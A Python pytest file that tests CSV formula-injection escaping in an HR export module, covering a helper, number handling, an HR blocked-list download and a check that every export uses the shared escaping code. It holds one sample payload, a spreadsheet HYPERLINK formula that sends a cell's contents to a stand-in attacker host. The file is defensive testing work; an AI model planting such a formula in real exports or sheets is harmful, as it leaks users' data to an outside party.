"""CSV exports are data, never formulas: text starting with = + - @ (or tab/CR) gets a leading quote."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from kinerja import exports
from kinerja.execution.sync import sync_skp
from kinerja.exports import csv_text, safe_cell
from kinerja.extensions import db
from tests.execution.test_locking_hr_views import hr_client  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA), ("+6281234", "'+6281234"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Budi = Staf", "Budi = Staf"), ("", ""), (None, ""),
    (-3, -3), (-2.5, -2.5), (Decimal("-1.25"), Decimal("-1.25")), (0, 0), (True, "True"),
])
def test_safe_cell_escapes_text_that_starts_a_formula_and_keeps_numbers(value, written):
    assert safe_cell(value) == written


def test_a_negative_number_column_stays_a_number():
    rows = list(csv.reader(io.StringIO(csv_text(["name", "value"], [["-x", -3], ["y", Decimal("-0.5")]]))))
    assert rows == [["name", "value"], ["'-x", "-3"], ["y", "-0.5"]]


def test_the_blocked_list_csv_escapes_a_formula_in_a_name_and_a_unit(hr_client, people, frozen):  # noqa: F811
    people["staf2"].name = FORMULA
    people["staf2"].unit.name = "@Unit Jahat"
    db.session.commit()
    sync_skp(2026, datetime(2026, 2, 5, 17, 30, tzinfo=UTC))
    db.session.commit()
    response = hr_client.get("/execution/hr/blocked.csv?year=2026&unit=DIT2")
    assert response.status_code == 200
    rows = {row["nip"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    row = rows[people["staf2"].nip]
    assert row["name"] == "'" + FORMULA and row["unit_name"] == "'@Unit Jahat"
    assert row["listed_at"] == "2026-02-05T17:30:00"  # ordinary cells untouched


def test_every_csv_export_writes_through_the_exports_module():
    """A new export that builds its own csv.writer or text/csv answer would skip the escaping."""
    root = Path(exports.__file__).parent
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "exports.py" and ("csv.writer(" in path.read_text() or "text/csv" in path.read_text())]
    assert offenders == []
